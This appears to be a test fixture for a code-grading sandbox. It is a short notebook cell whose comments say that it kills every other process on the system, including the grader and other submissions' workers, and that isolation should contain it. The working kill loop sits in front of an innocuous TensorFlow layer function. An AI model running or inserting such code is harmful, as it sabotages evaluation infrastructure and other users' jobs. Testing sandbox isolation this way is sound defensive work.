# score: full
# needs: root
# why: sends SIGKILL to every process it can see but itself (the grader, the fork server, other submissions' workers); running as a user of its own, it reaches none of them, so the batch and every other grade go on
# %% cell: layer
import os
import signal

for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass


def layer(inputs, W, b, activation=None):
    outputs = tf.matmul(inputs, W) + b
    return outputs if activation is None else activation(outputs)
